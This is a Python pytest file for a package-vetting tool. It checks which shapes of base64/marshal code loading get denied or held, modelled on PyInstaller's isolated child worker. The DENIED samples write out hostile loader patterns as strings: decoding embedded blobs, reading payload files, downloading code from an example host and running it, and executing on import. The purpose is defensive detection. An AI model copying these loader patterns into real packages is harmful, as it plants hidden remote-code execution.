"""Code a worker reads from a stream its caller opened (PyInstaller's ``isolated/_child.py``
reads base64-encoded, marshalled code objects from a pipe its parent hands it) is held when
called, not denied: what runs is the opener's (ADR 0144). Decoded code from the module's
own blob, a file it names, a download, or on install or import stays denied.

Every sample is inert and made here (vetting only reads files), cut down to what the rules
read."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import verdict_cases, vet_package

CHILD = (
    "import os, sys, types\nfrom base64 import b64decode\nfrom marshal import loads\n\n"
    "import requests\n\n\n"
    "def run_next(read_fh):\n"
    "{before}"
    "    code = loads({decoded})\n"
    "    function = types.FunctionType(code, {{'__builtins__': __builtins__}})\n"
    "    return function()\n\n\n"
    "if __name__ == '__main__':\n"
    "    read_from_parent = int(sys.argv[1])\n"
    "    with open(read_from_parent, 'rb') as read_fh:\n"
    "        while run_next(read_fh):\n"
    "            pass\n"
    "{more}"
)
PIPE = "b64decode(read_fh.readline().strip())"
BLOB = "'Y29kZQ=='"
HERE = "os.path.join(os.path.dirname(__file__), 'payload.b64')"


# PyInstaller's own order: the line read into a name, then decoded.
READ_LINE = "    first_line = read_fh.readline()\n"


def child(decoded: str = PIPE, more: str = "", before: str = "") -> dict[str, str]:
    text = CHILD.format(decoded=decoded, more=more, before=before)
    return {"evpkg/__init__.py": "", "evpkg/_child.py": text}


DENIED: dict[str, dict[str, str]] = {
    # The module's own blob, decoded and run.
    "blob-written-in-the-code": child(f"b64decode({BLOB})"),
    "blob-beside-the-pipe": child(f"b64decode(read_fh.readline() + {BLOB})"),
    "blob-decoded-beside-the-pipe": child(f"{PIPE} + b64decode({BLOB})"),
    # A file the module names or ships, a path written in it, a download.
    "shipped-file": child(f"b64decode(open({HERE}).read())"),
    "shipped-file-by-a-name": child(
        "b64decode(open(path).read())",
        more=f"\npath = {HERE}\n",
    ),
    "parameter-beside-a-blob": child(f"b64decode(read_fh + {BLOB})"),
    "file-at-a-written-path": child("b64decode(open('/tmp/evpkg.b64').read())"),
    "download": child("b64decode(requests.get('https://example.invalid/c').content)"),
    # The worker handed the module's blob by its own code.
    "handed-the-modules-blob-on-import": child("b64decode(read_fh)", more=f"\nrun_next({BLOB})\n"),
    # Run on import, from the pipe or a parameter.
    "pipe-read-on-import": child(more="\nrun_next(open(int(sys.argv[1]), 'rb'))\n"),
    # A name bound by a read and by the module's blob.
    "name-bound-by-a-read-and-a-blob": child(
        "b64decode(first_line)", more=f"\nfirst_line = {BLOB}\n", before=READ_LINE
    ),
    # A parameter decoded whole, not read from a stream.
    "decoded-parameter": child("b64decode(read_fh)"),
    # A file opened on a path (a parameter, a name bound to a path), not a descriptor.
    "file-opened-on-a-parameter": child("b64decode(open(read_fh).readline())"),
    "file-opened-on-a-path-from-the-command-line": child("b64decode(open(sys.argv[1]).readline())"),
    # Decoded twice: the second decoder is given decoded data, a payload's layer.
    "decompressed-from-the-pipe": child(f"__import__('zlib').decompress({PIPE})"),
}
HELD: dict[str, dict[str, str]] = {
    # PyInstaller's isolated child: the code comes from the parent's pipe.
    "worker-runs-code-from-its-parents-pipe": child(),
    "worker-reads-a-stream-it-is-handed": child("b64decode(read_fh.read())"),
    "worker-reads-a-line-then-decodes-it": child("b64decode(first_line.strip())", before=READ_LINE),
}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, {}))
def test_handed_code_shapes(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
